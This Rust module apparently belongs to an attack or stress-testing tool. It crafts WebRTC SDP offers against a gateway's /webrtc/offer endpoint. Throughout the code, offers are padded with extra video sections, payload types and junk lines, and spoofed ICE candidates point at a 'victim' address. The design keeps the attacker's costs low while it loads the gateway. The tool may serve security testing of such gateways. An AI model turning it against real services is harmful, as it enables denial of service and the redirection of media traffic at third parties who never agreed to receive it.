//! Offers that an attacker makes: a browser's, with whatever is to be otherwise.

use std::fmt::Write;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::LazyLock;

use serde_json::{Value, json};

use super::dtls::{Role, fingerprint};
use crate::http::{Reply, post};
use crate::peer::{Media, offer_sdp};

/// What an attacker asks for.
#[derive(Clone, Debug)]
pub struct Offer {
    /// The session's.
    pub id: String,
    /// Ours, new for each connection and for each ICE restart.
    pub ufrag: String,
    /// Ours.
    pub password: String,
    /// `actpass`, `active` or `passive`.
    pub setup: &'static str,
    /// Named as ours, of whomever.
    pub candidates: Vec<SocketAddr>,
    /// Says whose connection this is (RFC 8829, section 5.2.1), the same in each of its offers.
    pub session: u64,
    /// Video sections beyond the first.
    pub more_sections: usize,
    /// Payload types of the first video section beyond those that are needed.
    pub more_payload_types: usize,
    /// Lines that mean nothing.
    pub more_lines: usize,
}

/// What the gateway answers.
#[derive(Clone, Debug)]
pub struct Answer {
    /// Theirs.
    pub ufrag: String,
    /// Theirs.
    pub password: String,
    /// Where they are: the first of IPv4.
    pub media: SocketAddr,
    /// The same of TCP, where they listen.
    pub media_tcp: Option<SocketAddr>,
    /// Who we are then.
    pub role: Role,
}

impl Offer {
    /// One that is answered.
    #[must_use]
    pub fn new(id: impl Into<String>) -> Self {
        Self {
            id: id.into(),
            ufrag: letters(8),
            password: letters(24),
            setup: "actpass",
            candidates: Vec::new(),
            session: rand::random::<u64>() >> 2,
            more_sections: 0,
            more_payload_types: 0,
            more_lines: 0,
        }
    }

    /// The same connection, from new credentials on.
    #[must_use]
    pub fn restarted(&self) -> Self {
        Self { ufrag: letters(8), password: letters(24), ..self.clone() }
    }

    /// As text.
    ///
    /// # Panics
    /// Never: a text takes more text.
    #[must_use]
    pub fn sdp(&self) -> String {
        // Made once: a new certificate for each would cost the attacker, and so the honest streams
        // of this machine, more than any offer costs the gateway.
        static SOUND: LazyLock<String> = LazyLock::new(|| offer_sdp(Media::default()));
        let candidates = self.candidates.iter().enumerate().map(|(n, address)| {
            let (ip, port) = (address.ip(), address.port());
            format!("a=candidate:{n} 1 udp {} {ip} {port} typ host\r\n", 2_130_706_431 - n)
        });
        let candidates: String = candidates.collect();
        let payload_types = (0..self.more_payload_types).fold(String::new(), |mut list, n| {
            write!(list, " {}", 35 + n % 31).expect("a text takes more");
            list
        });
        let mut sdp = String::new();
        let mut candidates = Some(candidates);
        let bundled: String = (0..self.more_sections).map(|n| format!(" more{n}")).collect();
        for line in SOUND.lines() {
            let line = match line.split_once([':', '=']) {
                Some(("o", _)) => format!("o=- {} 1 IN IP4 127.0.0.1", self.session),
                Some(("m", media)) if media.starts_with("video") => {
                    format!("{line}{payload_types}")
                }
                Some(_)
                    if line.starts_with("a=candidate:")
                        || line.starts_with("a=end-of-candidates") =>
                {
                    continue;
                }
                Some(_) if line.starts_with("a=ice-ufrag:") => {
                    format!("a=ice-ufrag:{}", self.ufrag)
                }
                Some(_) if line.starts_with("a=ice-pwd:") => format!("a=ice-pwd:{}", self.password),
                Some(_) if line.starts_with("a=fingerprint:") => {
                    format!("a=fingerprint:sha-256 {}", fingerprint())
                }
                Some(_) if line.starts_with("a=setup:") => {
                    format!("a=setup:{}\r\n{}", self.setup, candidates.take().unwrap_or_default())
                }
                Some(_) if line.starts_with("a=group:BUNDLE") => format!("{line}{bundled}"),
                _ => line.to_owned(),
            };
            sdp.extend([line.trim_end(), "\r\n"]);
        }
        // As short as a section can be that is answered.
        sdp.extend((0..self.more_sections).map(|n| {
            format!(
                "m=video 9 UDP/TLS/RTP/SAVPF 96\r\nc=IN IP4 0.0.0.0\r\n\
                     a=mid:more{n}\r\na=rtcp-mux\r\na=rtpmap:96 VP8/90000\r\n"
            )
        }));
        sdp.extend((0..self.more_lines).map(|n| format!("a=nothing:{n}\r\n")));
        sdp
    }

    /// What is posted.
    #[must_use]
    pub fn body(&self) -> String {
        json!({ "sdp": self.sdp(), "type": "offer", "webrtc_id": self.id }).to_string()
    }

    /// Asks the gateway at `page`.
    ///
    /// # Errors
    /// Its reply, if it is not an answer; with a status of 0 if there was no reply.
    pub fn post(&self, page: &str) -> Result<Answer, Reply> {
        let none = |error: ureq::Error| Reply {
            status: 0,
            body: error.to_string(),
            retry_after: None,
            headers: Vec::new(),
        };
        let reply = post(&format!("{page}/webrtc/offer"), self.body()).map_err(none)?;
        let answer = reply.json();
        answer["sdp"].as_str().and_then(Answer::read).ok_or(reply)
    }

    /// Trickles a candidate of this address; the reply's status and what it says.
    ///
    /// # Errors
    /// Nobody replied.
    pub fn trickle(&self, page: &str, address: SocketAddr) -> Result<Value, ureq::Error> {
        let (ip, port) = (address.ip(), address.port());
        let text = format!(
            "candidate:9 1 udp 2130706431 {ip} {port} typ host generation 0 ufrag {}",
            self.ufrag
        );
        let candidate = json!({ "candidate": text, "sdpMid": "0", "sdpMLineIndex": 0 });
        let body = json!({ "type": "ice-candidate", "candidate": candidate, "webrtc_id": self.id });
        post(&format!("{page}/webrtc/offer"), body.to_string()).map(|reply| reply.json())
    }
}

impl Answer {
    fn read(sdp: &str) -> Option<Self> {
        let value =
            |name: &str| sdp.lines().find_map(|line| line.strip_prefix(name)).map(str::trim);
        let address = |line: &str, protocol: &str| {
            let fields: Vec<_> = line.strip_prefix("a=candidate:")?.split_whitespace().collect();
            let address = SocketAddr::new(
                fields.get(4)?.parse::<Ipv4Addr>().ok()?.into(),
                fields.get(5)?.parse().ok()?,
            );
            fields.get(2)?.eq_ignore_ascii_case(protocol).then_some(address)
        };
        Some(Self {
            ufrag: value("a=ice-ufrag:")?.to_owned(),
            password: value("a=ice-pwd:")?.to_owned(),
            media: sdp.lines().find_map(|line| address(line, "udp"))?,
            media_tcp: sdp.lines().find_map(|line| address(line, "tcp")),
            role: if value("a=setup:")? == "active" { Role::Server } else { Role::Client },
        })
    }
}

/// Random ones.
fn letters(count: usize) -> String {
    (0..count).map(|_| char::from(b'a' + rand::random::<u8>() % 26)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_offer_has_what_was_asked_for() {
        let victim = SocketAddr::from(([192, 0, 2, 1], 9));
        let offer =
            Offer { more_sections: 3, more_payload_types: 5, more_lines: 7, ..Offer::new("x") };
        let offer = Offer { setup: "passive", candidates: vec![victim; 4], ..offer };
        let sdp = offer.sdp();
        let count = |text: &str| sdp.matches(text).count();
        assert_eq!(count("\r\nm=video "), 4, "{sdp}");
        let sections = count("a=fingerprint:");
        assert_eq!((count("a=setup:passive"), count(&offer.ufrag)), (sections, sections), "{sdp}");
        assert_eq!((count("a=nothing:"), count("a=setup:actpass")), (7, 0), "{sdp}");
        assert!(count("192.0.2.1 9 typ host") == 4 && count("\r\n\r\n") == 0, "{sdp}");
        assert_eq!(count(&format!("o=- {} ", offer.session)), 1, "{sdp}");
    }
}
